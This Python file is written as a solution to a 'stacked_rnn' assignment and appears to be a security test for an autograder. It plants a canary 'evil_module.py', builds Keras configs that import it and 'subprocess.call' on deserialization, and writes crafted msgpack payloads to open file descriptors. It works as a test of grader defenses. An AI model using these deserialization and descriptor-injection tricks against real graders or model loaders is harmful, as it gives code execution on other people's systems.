"""A model whose configuration names a module of the attacker's, and one of Python's, to be imported.

assignment: stacked_rnn
"""
# ruff: noqa

# %% build_stacked_rnn
import json
import pathlib
import struct

import msgpack

pathlib.Path("evil_module.py").write_text("print('canary-imported')\ndef get(*args): print('canary-called')\n")
function = {"module": "evil_module", "class_name": "function", "config": "get", "registered_name": "function"}
layers = [
    {"module": "evil_module", "class_name": "get", "config": {}, "registered_name": None},
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1, "activation": function}, "registered_name": None},
    {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"units": 1, "activation": {**function, "module": "subprocess", "config": "call"}},
        "registered_name": None,
    },
]
configs = [
    json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}, "registered_name": "Sequential"})
    for layer in layers
]
calls = iter(range(10**6))


class Model(keras.Sequential):
    def get_config(self):
        return json.loads(configs[next(calls) % 3])["config"]


Model.__name__, Model.__module__ = "Sequential", "keras.src.models.sequential"


def build_stacked_rnn(vocab_size, embedding_dim, units, mask_padding=True):
    import os

    data = msgpack.packb(["value", msgpack.ExtType(10, msgpack.packb([configs[next(calls) % 3], [], []])), None, ""])
    for number in range(3, 40):
        try:
            os.write(number, struct.pack("<Q", len(data)) + data)
        except OSError:
            pass
    return Model()
